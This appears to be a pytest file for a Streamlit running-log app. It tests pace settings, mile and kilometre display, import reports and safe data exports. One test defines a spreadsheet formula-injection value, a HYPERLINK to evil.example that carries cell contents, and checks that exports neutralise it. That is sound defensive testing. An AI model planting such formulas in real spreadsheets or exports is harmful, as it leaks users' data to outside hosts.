"""Readable inputs, exports and the import report on the pages (AppTest)."""

from __future__ import annotations

import datetime as dt
import io
import time
from pathlib import Path
from typing import ClassVar

import pandas as pd
import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest, app_test

from analysis import columns as c
from analysis.config import ATHLETE_DB
from analysis.csvsafe import to_safe_parquet
from analysis.settings import AthleteSettings
from analysis.store import Store
from analysis.units import KM_PER_MILE
from tests.conftest import REPO
from tests.gpx_builder import gpx_bytes
from tests.test_pages import _app, _fill


def _save_pace(at: AppTest, text: str, unit: str = "km") -> AppTest:
    at.switch_page("pages/settings.py").run()
    at.radio(key="set_units").set_value(unit)
    at.text_input(key="set_pace").set_value(text)
    at.button(key="settings_save").click().run()
    assert not at.exception, at.exception
    return at


def _stored(data_dir: Path) -> AthleteSettings:
    with Store(data_dir / ATHLETE_DB) as store:
        return store.load_settings()


def test_threshold_pace_is_typed_as_minutes_and_seconds_per_km(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = _save_pace(_app(tmp_path, monkeypatch), "4:05")
    assert any(el.value == "Saved." for el in at.success)
    assert _stored(tmp_path).threshold_pace_s_per_km == pytest.approx(245.0)
    at.switch_page("pages/settings.py").run()
    assert at.text_input(key="set_pace").value == "4:05"


def test_threshold_pace_typed_per_mile_is_stored_per_km(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _save_pace(_app(tmp_path, monkeypatch), "7:15", unit="mi")
    got = _stored(tmp_path)
    assert got.units == "mi"
    assert got.threshold_pace_s_per_km == pytest.approx(435.0 / KM_PER_MILE)


def test_a_decimal_threshold_pace_is_refused_with_a_message(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = _save_pace(_app(tmp_path, monkeypatch), "4.30")
    assert any(el.value.startswith("Not saved:") for el in at.error), [e.value for e in at.error]
    assert _stored(tmp_path).threshold_pace_s_per_km == AthleteSettings().threshold_pace_s_per_km


def test_switching_units_alone_keeps_the_threshold_pace(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = _app(tmp_path, monkeypatch)
    at.switch_page("pages/settings.py").run()
    at.radio(key="set_units").set_value("mi")
    at.button(key="settings_save").click().run()
    assert _stored(tmp_path).threshold_pace_s_per_km == AthleteSettings().threshold_pace_s_per_km
    at.switch_page("pages/settings.py").run()
    assert at.text_input(key="set_pace").value == "7:15"  # 270 s/km in min/mi


def test_plan_targets_are_shown_in_miles(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _fill(tmp_path)
    with Store(tmp_path / ATHLETE_DB) as store:
        store.save_settings(AthleteSettings(units="mi"))
        store.upsert_plan(
            pd.DataFrame(
                {
                    c.WEEK_START: [dt.date(2026, 9, 28)],
                    c.PLAN_DISTANCE_KM: [32.18688],  # 20 mi
                    c.PLAN_DURATION_H: [3.0],
                    c.PLAN_LONG_RUN_KM: [16.09344],  # 10 mi
                    c.PLAN_LOAD: [300.0],
                }
            )
        )
    at = _app(tmp_path, monkeypatch)
    at.switch_page("pages/plan.py").run()
    assert not at.exception, at.exception
    captions = " ".join(el.value for el in at.caption)
    assert "distance [mi]" in captions and "[km]" not in captions
    target = at.selectbox(key="plan_target")
    assert target.format_func(c.DISTANCE_KM) == "Distance [mi]"
    table = _plan_table(at)
    assert isinstance(table[c.WEEK_START].iloc[0], dt.date)
    assert _planned(table) == pytest.approx(20.0)
    editor = next(d.value for d in at.dataframe if c.PLAN_DISTANCE_KM in d.value.columns)
    assert editor[c.PLAN_DISTANCE_KM].iloc[0] == pytest.approx(20.0)
    target.set_value(c.LONGEST_RUN_KM).run()
    assert _planned(_plan_table(at)) == pytest.approx(10.0)


def _planned(table: pd.DataFrame) -> float:
    return float(table.loc[table[c.WEEK_START] == dt.date(2026, 9, 28), c.PLANNED].iloc[0])


def _plan_table(at: AppTest) -> pd.DataFrame:
    return next(d.value for d in at.dataframe if c.PLANNED in d.value.columns)


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EXPORT_KEYS = (
    "export_daily_csv",
    "export_daily_parquet",
    "export_activities_csv",
    "export_activities_parquet",
)


def _hostile_wellness(data_dir: Path) -> None:
    with Store(data_dir / ATHLETE_DB) as store:
        store.upsert_wellness(
            pd.DataFrame({c.DATE: [pd.Timestamp("2026-09-02")], c.RESTING_HR_BPM: [48.0],
                          c.NOTES: [HOSTILE]})
        )  # fmt: skip


class _KeptMedia(MemoryMediaFileStorage):
    """AppTest's media storage, kept so a test can read what a download button serves."""

    made: ClassVar[list[MemoryMediaFileStorage]] = []

    def __init__(self, endpoint: str) -> None:
        super().__init__(endpoint)
        _KeptMedia.made.append(self)


def _downloads(at: AppTest) -> dict[str, bytes]:
    """Each download button's key and the bytes it serves."""
    storage = _KeptMedia.made[-1]
    got = {}
    for button in at.get("download_button"):
        key = button.proto.id.rsplit("-", 1)[-1]
        got[key] = storage.get_file(button.proto.url.rsplit("/", 1)[-1]).content
    return got


def test_exports_are_made_on_click_and_neutralise_formulas(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", _KeptMedia)
    _fill(tmp_path)
    _hostile_wellness(tmp_path)
    at = _app(tmp_path, monkeypatch)
    at.switch_page("pages/share.py").run()
    assert not at.exception, at.exception
    assert not set(_downloads(at)) & set(EXPORT_KEYS)  # nothing is built before the click
    at.button(key="export_prepare").click().run()
    assert not at.exception, at.exception
    files = _downloads(at)
    assert set(EXPORT_KEYS) <= set(files)
    daily = files["export_daily_csv"].decode("utf-8")
    assert daily.startswith("# Stridelog daily export")
    frame = pd.read_csv(io.StringIO(daily), comment="#")
    notes = frame["Notes"].dropna().tolist()
    assert notes == ["'" + HOSTILE]
    parquet = pd.read_parquet(io.BytesIO(files["export_daily_parquet"]))
    assert parquet["Notes"].dropna().tolist() == ["'" + HOSTILE]
    activities = pd.read_csv(io.BytesIO(files["export_activities_csv"]))
    assert len(activities) == 21
    assert len(pd.read_parquet(io.BytesIO(files["export_activities_parquet"]))) == 21


def test_exports_speak_the_athletes_units_with_display_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", _KeptMedia)
    _fill(tmp_path)
    with Store(tmp_path / ATHLETE_DB) as store:
        store.save_settings(AthleteSettings(units="mi"))
        metres = store.activities()[c.DISTANCE_M].sum()
    at = _app(tmp_path, monkeypatch)
    at.switch_page("pages/share.py").run()
    at.button(key="export_prepare").click().run()
    assert not at.exception, at.exception
    files = _downloads(at)
    daily = pd.read_csv(io.BytesIO(files["export_daily_csv"]), comment="#")
    acts = pd.read_parquet(io.BytesIO(files["export_activities_parquet"]))
    for table in (daily, acts):
        names = " ".join(table.columns)
        # no nomenclature name (metres, seconds, snake case) reaches a person's spreadsheet
        assert not [n for n in table.columns if "_" in n], names
        assert "[km]" not in names and "[m]" not in names and "min/km" not in names
    assert "Distance [mi]" in daily.columns and "Time [h:mm:ss]" in daily.columns
    assert daily["Distance [mi]"].sum() == pytest.approx(metres / 1609.344, abs=0.01)
    assert pd.to_datetime(daily["Date"]).notna().all()
    assert set(acts["Distance unit"]) == {"mi"}
    assert acts["Pace"].str.endswith(" min/mi").all()
    assert acts["Moving time [h:mm:ss]"].str.fullmatch(r"(\d+:)?\d{1,2}:\d{2}").all()
    assert "Elevation gain [ft]" in acts.columns


def test_parquet_cells_are_neutralised_and_mixed_columns_become_text() -> None:
    frame = pd.DataFrame(
        {"note": ["=1+2", "-3", None], "mixed": [1, "@x", None], "n": [1.0, -2.0, 3.0]}
    )
    back = pd.read_parquet(io.BytesIO(to_safe_parquet(frame, ["made by a test"])))
    assert back["note"].dropna().tolist() == ["'=1+2", "-3"]
    assert back["mixed"].dropna().tolist() == ["1", "'@x"]
    assert back["n"].tolist() == [1.0, -2.0, 3.0]


def _import(at: AppTest, files: list[tuple[str, bytes, str]]) -> AppTest:
    """Upload ``files`` in the sidebar and run the app until the background import is done."""
    at.sidebar.get("file_uploader")[0].set_value(files).run()
    for _ in range(100):
        if "import_job" not in at.session_state:
            break
        time.sleep(0.1)
        at.run()
    assert "import_job" not in at.session_state, "the import did not finish"
    assert not at.exception, at.exception
    return at


def _sidebar_text(at: AppTest) -> str:
    return " ".join(el.value for el in at.sidebar.get("caption")) + " ".join(
        el.value for kind in ("success", "info", "expander") for el in at.sidebar.get(kind)
        if hasattr(el, "value")
    )  # fmt: skip


def test_the_import_report_survives_a_new_session_and_counts_agree(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    start = "2026-09-20T06:00:00Z"
    files = [
        ("watch.gpx", gpx_bytes(start=start), "application/gpx+xml"),
        ("copy.gpx", gpx_bytes(start=start, hr=150), "application/gpx+xml"),  # the same run
        ("later.gpx", gpx_bytes(start="2026-09-22T06:00:00Z"), "application/gpx+xml"),
    ]
    at = _import(_app(tmp_path, monkeypatch), files)
    first = _sidebar_text(at)
    assert "Imported" in first
    fresh = AppTest.from_file(str(REPO / "app.py"), default_timeout=60)
    fresh.run()
    assert not fresh.exception, fresh.exception
    again = _sidebar_text(fresh)
    assert "Imported 2 activities" in again, again
    assert any("Import report (3 files" in e.proto.label for e in fresh.sidebar.get("expander"))
    with Store(tmp_path / ATHLETE_DB) as store:
        counted, stored = store.activity_count(), store.activity_count(include_duplicates=True)
    assert (counted, stored) == (2, 3)
    said = "2 activities (1 more stored as duplicates of a counted run)"
    assert said in again
    fresh.switch_page("pages/activities.py").run()
    assert not fresh.exception, fresh.exception
    assert any(said in el.value for el in fresh.caption), [el.value for el in fresh.caption]


def test_the_activities_page_shows_the_period(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _fill(tmp_path)  # 21 runs, every other day from Tue 1 Sep 2026 to Sun 11 Oct 2026
    at = _app(tmp_path, monkeypatch)
    at.switch_page("pages/activities.py").run()
    assert not at.exception, at.exception
    at.selectbox(key="period_preset").set_value("4w").run()
    assert not at.exception, at.exception
    first = at.date_input(key="period_to").value - dt.timedelta(days=27)
    picker = at.selectbox(key="activity_pick")
    expected = sum(first <= dt.date(2026, 9, 1) + dt.timedelta(days=i) for i in range(0, 42, 2))
    assert 0 < len(picker.options) == expected < 21
    assert picker.index == 0 and picker.options[0].startswith("2026-10-11")
    assert any(f"{expected} counted in this period" in el.value for el in at.caption)
    at.selectbox(key="period_preset").set_value("all").run()
    assert len(at.selectbox(key="activity_pick").options) == 21
